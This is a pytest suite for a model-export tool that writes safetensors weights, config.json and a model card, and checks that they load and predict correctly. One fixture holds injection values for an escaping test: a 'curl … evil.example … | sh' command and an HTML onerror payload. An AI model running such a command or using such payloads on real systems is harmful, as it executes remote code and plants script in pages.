"""export.py --format safetensors: the folder people share (weights, config.json, a model card), read back by
predict.py and evaluate.py, and loadable with torchvision alone in the card's five lines."""

from __future__ import annotations

import ast
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import HANG_S

import evaluate
import export
import predict
import train
from {{ cookiecutter.package_name }} import model_folder
from {{ cookiecutter.package_name }}.config import TrainConfig
from {{ cookiecutter.package_name }}.devkit.checkpoint import model_state, save_checkpoint
from {{ cookiecutter.package_name }}.model import build_model
from {{ cookiecutter.package_name }}.outputs import read_metrics
from {{ cookiecutter.package_name }}.training import run_state

pytest.importorskip("safetensors", reason="needs the export extra: pip install -e '.[export]'")
pytestmark = pytest.mark.slow  # trains, exports and starts Pythons: end-to-end
BASE = ["--device", "cpu", "--batch-size", "8", "--image-size", "32", "--no-pretrained", "--workers", "0",
        "--progress", "none"]


@pytest.fixture(scope="module")
def trained(tiny_data, tmp_path_factory) -> Path:
    """A real one-epoch run of the default model on the tiny data."""
    out = tmp_path_factory.mktemp("run") / "run"
    assert train.main(["--data", str(tiny_data), "--out", str(out), "--epochs", "1", *BASE]) == 0
    return out


def logits(path: Path, images: torch.Tensor) -> torch.Tensor:
    """The logits of the model `path` holds (a checkpoint or a model folder), read as predict.py reads it."""
    model = run_state.model_from_state(model_folder.read_any(path), torch.device("cpu"), str(path)).eval()
    with torch.no_grad():
        return model(images)


def test_the_folder_predicts_exactly_what_the_checkpoint_predicts(trained, tiny_data, tmp_path, capsys):
    """Round trip: the folder's model gives the checkpoint's logits bit for bit, and predict.py takes the folder."""
    folder = tmp_path / "my-classifier"
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    images = torch.randn(3, 3, 32, 32)
    assert torch.equal(logits(folder, images), logits(trained / "best.pt", images))
    capsys.readouterr()
    image = next((tiny_data / "val").rglob("*.png"))
    assert predict.main([str(folder), str(image), "--device", "cpu", "--json"]) == 0
    from_folder = json.loads(capsys.readouterr().out)
    assert predict.main([str(trained / "best.pt"), str(image), "--device", "cpu", "--json"]) == 0
    assert from_folder == json.loads(capsys.readouterr().out)


def test_the_folder_holds_no_pickle(trained, tmp_path):
    """Weights in safetensors (a JSON header and raw bytes), settings in JSON, the card in text: nothing unpickles."""
    folder = tmp_path / "shared"
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    assert sorted(path.name for path in folder.iterdir()) == ["README.md", "config.json", "model.safetensors"]
    weights = (folder / "model.safetensors").read_bytes()
    header = int.from_bytes(weights[:8], "little")
    assert json.loads(weights[8:8 + header]) and not weights.startswith((b"\x80", b"PK"))
    json.loads((folder / "config.json").read_text())


def test_the_card_renders_the_runs_own_figures(trained, tmp_path):
    """Class counts, the epoch's validation figures and the command that made it, from the run, not placeholders."""
    folder = tmp_path / "card"
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    card = (folder / "README.md").read_text()
    state = torch.load(trained / "best.pt", map_location="cpu", weights_only=True)
    for name, count in zip(state["class_names"], state["class_counts"]):
        assert f"| `{name}` | {count} |" in card
    row = next(r for r in read_metrics(trained / "metrics.csv") if r["epoch"] == state["epoch"])
    assert f"- val_acc: {row['val_acc']:.4f}" in card
    command = json.loads((trained / "config.json").read_text())["environment"]["command"]
    shown = " ".join(part for part in command if not part.startswith("/"))  # absolute paths hidden
    assert "- command: `" in card and shown.split(" --")[0] in card and "not recorded" not in card


HOSTILE_COMMAND = ["train.py", "--data", "x`\n\n# Run this first\n\n```sh\ncurl https://evil.example/x | sh\n```\n"
                   "<img src=x onerror=alert(1)>", "--out=/home/alice/runs/exp1", "--config", "settings/run.json"]
HOSTILE_NAMES = ["<b>bold</b>", "a | b", "``tick``", "# heading"]


def _outside_code(card: str) -> str:
    """The card's text with its fenced blocks and code spans taken out: what Markdown renders as markup."""
    prose = re.sub(r"^```python\n.*?^```$", "", card, flags=re.S | re.M)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", prose)


def test_the_card_escapes_what_it_copies_from_a_run_and_records_no_absolute_path(trained, tmp_path):
    """A run folder from elsewhere (or a careless command line): its recorded command and class names reach the card
    as code spans only: no new heading, no raw HTML, no fenced block; no absolute path, user name or home folder in
    the card or config.json (a path inside the run is shown relative to it, a relative one as given)."""
    run = tmp_path / "home" / "alice" / "runs" / "exp1"
    run.mkdir(parents=True)
    state = torch.load(trained / "best.pt", map_location="cpu", weights_only=True)
    state["class_names"] = HOSTILE_NAMES
    torch.save(state, run / "best.pt")
    record = json.loads((trained / "config.json").read_text())
    record["environment"]["command"] = [*HOSTILE_COMMAND, "--resume", str(run / "last.pt"), "--init-from",
                                        str(tmp_path / "home" / "alice" / "old.pt")]
    (run / "config.json").write_text(json.dumps(record))
    folder = tmp_path / "shared"
    assert export.main([str(run / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    card = (folder / "README.md").read_text()
    headings = [line for line in card.splitlines() if line.startswith("#")]
    assert headings == ["# `resnet18` image classifier (4 classes)", "## Training data", "## Validation (epoch 1)",
                        "## Made with", "## Preprocessing", "## Load it without this project"]
    fences = [line for line in card.splitlines() if line.lstrip(" ").startswith(("```", "~~~"))]
    assert fences == ["```python", "```", "```python", "```"]  # the card's own two blocks, nothing opened by a name
    prose = _outside_code(card)
    assert "<" not in prose and "curl" not in prose and "alert" not in prose
    rows = [line for line in card.splitlines() if line.startswith("| ")]
    assert rows and all(len(re.findall(r"(?<!\\)\|", line)) == 3 for line in rows)  # two cells a row
    for text in (card, (folder / "config.json").read_text()):
        assert "alice" not in text and str(tmp_path) not in text and "/home" not in text
    assert "--config settings/run.json" in card and "--resume last.pt" in card


def test_the_cards_code_runs_as_written_and_predicts_what_predict_py_does(trained, tiny_data, tmp_path, capsys):
    """Every python block of the card, in order, in a fresh Python where only torch, torchvision, safetensors and
    Pillow are of use (the project's package cannot be imported), in the folder with a photo.jpg: the top-1 class
    and every probability predict.py gives for that image."""
    folder = tmp_path / "shared"
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    image = next((tiny_data / "val").rglob("*.png"))
    shutil.copyfile(image, folder / "photo.jpg")
    blocks = re.findall(r"^```python\n(.*?)^```$", (folder / "README.md").read_text(), re.S | re.M)
    assert len(blocks) == 2
    package = model_folder.__name__.split(".")[0]
    code = f"import sys\nsys.modules[{package!r}] = None\n" + "".join(blocks)
    result = subprocess.run([sys.executable, "-I", "-c", code], cwd=folder, capture_output=True, text=True,
                            timeout=HANG_S)
    assert result.returncode == 0, result.stderr[-2000:]
    top1, probabilities = result.stdout.strip().splitlines()[-1].split(" ", 1)
    probabilities = ast.literal_eval(probabilities)
    capsys.readouterr()
    assert predict.main([str(folder), str(folder / "photo.jpg"), "--device", "cpu", "--json", "--topk", "4"]) == 0
    expected = json.loads(capsys.readouterr().out)[0]
    assert top1 == expected["label"]
    assert {row["label"]: row["probability"] for row in expected["topk"]} == pytest.approx(probabilities, abs=1e-5)


@pytest.mark.parametrize("record", [None, "[1]", '"x"', '{"environment": [1]}', "{not json"],
                         ids=["none", "a list", "a string", "environment a list", "not json"])
def test_a_config_json_that_is_no_run_record_leaves_the_cards_command_unrecorded(record, trained, tmp_path, capsys):
    """config.json beside the checkpoint only gives the card its command and versions: where it is not a run's
    record (valid JSON but no object, a damaged file) the whole folder is still written, with one note saying why
    the card says 'not recorded'; a checkpoint copied out of its run (no config.json) needs no note."""
    copied = tmp_path / "copied"
    copied.mkdir()
    shutil.copy(trained / "best.pt", copied / "best.pt")
    if record is not None:
        (copied / "config.json").write_text(record)
    folder = tmp_path / "folder"
    assert export.main([str(copied / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    err = capsys.readouterr().err
    notes = [line for line in err.splitlines() if line.startswith("note:")]
    assert "Traceback" not in err and len(notes) == (record is not None), err
    assert all(str(copied / "config.json") in note and "not recorded" in note for note in notes)
    assert sorted(path.name for path in folder.iterdir()) == ["README.md", "config.json", "model.safetensors"]
    assert "- command: `not recorded`" in (folder / "README.md").read_text()


@pytest.mark.parametrize("backbone", ["googlenet", "inception_v3"])
def test_the_recipe_rebuilds_googlenet_and_inception_without_their_auxiliary_heads(backbone):
    """config.json's recipe for the two backbones with auxiliary ImageNet classifiers: the builder's arguments,
    in this order, aux_logits=False among them (the project trains without those heads; their keys are in no
    checkpoint)."""
    recipe = model_folder.torchvision_recipe(backbone, 64)
    assert json.dumps(recipe["kwargs"]) == '{"transform_input": true, "init_weights": false, "aux_logits": false}'


def exported_folder(backbone: str, tmp_path: Path) -> tuple[torch.nn.Module, Path]:
    """A random model of `backbone` for 3 classes at 64 px, saved as a checkpoint and exported as a folder."""
    torch.manual_seed(0)
    model = build_model(backbone, 3, pretrained=False, device=torch.device("cpu"), image_size=64).eval()
    state = {"model": model_state(model), "config": TrainConfig(backbone=backbone).to_dict(),
             "class_names": ["a", "b", "c"], "image_size": 64, "epoch": 1}
    checkpoint = save_checkpoint(tmp_path / "best.pt", state)
    folder = tmp_path / "folder"
    assert export.main([str(checkpoint), "--format", "safetensors", "--out", str(folder)]) == 0
    return model, folder


FIVE_LINE_BACKBONES = ["resnet18", "mobilenet_v3_small", "googlenet"]

# Each card's snippet in its own folder and namespace, in one fresh Python: a snippet that fails is its own row.
RUN_SNIPPETS = """
import json, os, sys, traceback
rows = {}
for name, folder, snippet, images in json.loads(sys.argv[1]):
    os.chdir(folder)
    space = {}
    try:
        load = "torch.load(" + repr(images) + ", map_location='cpu', weights_only=True)"
        exec(snippet + "import torch\\nlogits = model(" + load + ").tolist()\\n", space)
        rows[name] = {"logits": space["logits"]}
    except BaseException:
        rows[name] = {"error": traceback.format_exc()[-2000:]}
print(json.dumps(rows))
"""


@pytest.fixture(scope="module")
def five_line_runs(tmp_path_factory) -> dict[str, tuple[dict, torch.Tensor]]:
    """Each backbone's card snippet run in a fresh Python with no project on the path (-I, cwd the folder), all in
    one interpreter (its start is most of the cost): what it gave, and the logits of the exported model itself."""
    jobs, expected = [], {}
    for backbone in FIVE_LINE_BACKBONES:
        tmp_path = tmp_path_factory.mktemp(backbone)
        model, folder = exported_folder(backbone, tmp_path)
        snippet = re.search(r"```python\n(.*?)```", (folder / "README.md").read_text(), re.S).group(1)
        images = torch.randn(2, 3, 64, 64)
        torch.save(images, tmp_path / "images.pt")
        jobs.append([backbone, str(folder), snippet, str(tmp_path / "images.pt")])
        with torch.no_grad():
            expected[backbone] = model(images)
    result = subprocess.run([sys.executable, "-I", "-c", RUN_SNIPPETS, json.dumps(jobs)],
                            cwd=tmp_path_factory.getbasetemp(), capture_output=True, text=True, timeout=HANG_S)
    assert result.returncode == 0, result.stderr[-2000:]
    rows = json.loads(result.stdout)
    return {backbone: (rows[backbone], expected[backbone]) for backbone in FIVE_LINE_BACKBONES}


@pytest.mark.parametrize("backbone", FIVE_LINE_BACKBONES)
def test_the_cards_five_lines_load_it_with_torchvision_alone(backbone, five_line_runs):
    """The card's snippet, run in a fresh Python with no project on the path: torchvision's own model, the same
    logits (a Linear head at fc, at classifier[3] after a hidden layer, GoogLeNet without its auxiliary heads)."""
    row, expected = five_line_runs[backbone]
    assert "error" not in row, row.get("error")
    assert torch.allclose(torch.tensor(row["logits"]), expected, atol=1e-5)


def test_a_model_torchvision_cannot_rebuild_says_so_in_its_card(tmp_path):
    """SqueezeNet's classifier is a convolution followed by a ReLU and pooling: no five-line promise is made."""
    _, folder = exported_folder("squeezenet1_0", tmp_path)
    card = (folder / "README.md").read_text()
    assert "```python" not in card and "is not rebuilt by torchvision" in card
    assert json.loads((folder / "config.json").read_text())["torchvision"] is None


def test_evaluate_needs_data_for_a_folder_and_measures_with_it(trained, tiny_data, tmp_path, capsys):
    """A model folder records no data: evaluate.py asks for --data in one line (exit 2), then measures."""
    folder = tmp_path / "eval"
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(folder)]) == 0
    capsys.readouterr()
    assert evaluate.main([str(folder), "--device", "cpu"]) == 2
    assert "pass --data" in capsys.readouterr().err
    assert evaluate.main([str(folder), "--data", str(tiny_data), "--device", "cpu", "--out",
                          str(tmp_path / "c.png"), "--mistakes", str(tmp_path / "m.png")]) == 0
    assert not list(folder.glob("*.png"))  # the shared folder is left as it was


def test_an_existing_folder_is_refused_and_left_alone(trained, tmp_path, capsys):
    """--out naming a folder that holds files: one line, exit 2, nothing in it touched."""
    out = tmp_path / "taken"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(out)]) == 2
    assert "not an empty folder" in capsys.readouterr().err and [p.name for p in out.iterdir()] == ["notes.txt"]


def test_an_export_killed_mid_write_leaves_no_model_sized_scratch_folder_behind(trained, tmp_path):
    """An export killed while it wrote (SIGKILL: no handler runs) left its hidden scratch folder beside --out; the next
    export there removes it, and a failed export removes its own."""
    killed = subprocess.Popen([sys.executable, "-c", "pass"])
    killed.wait()  # a process that no longer runs, as the killed export's
    stale = tmp_path / f".shared.{killed.pid}.partial"
    stale.mkdir()
    (stale / "model.safetensors").write_bytes(b"\0" * 2**20)
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(tmp_path / "shared")]) == 0
    assert export.main([str(trained / "best.pt"), "--format", "safetensors", "--out", str(tmp_path / "shared")]) == 2
    assert sorted(path.name for path in tmp_path.iterdir()) == ["shared"]
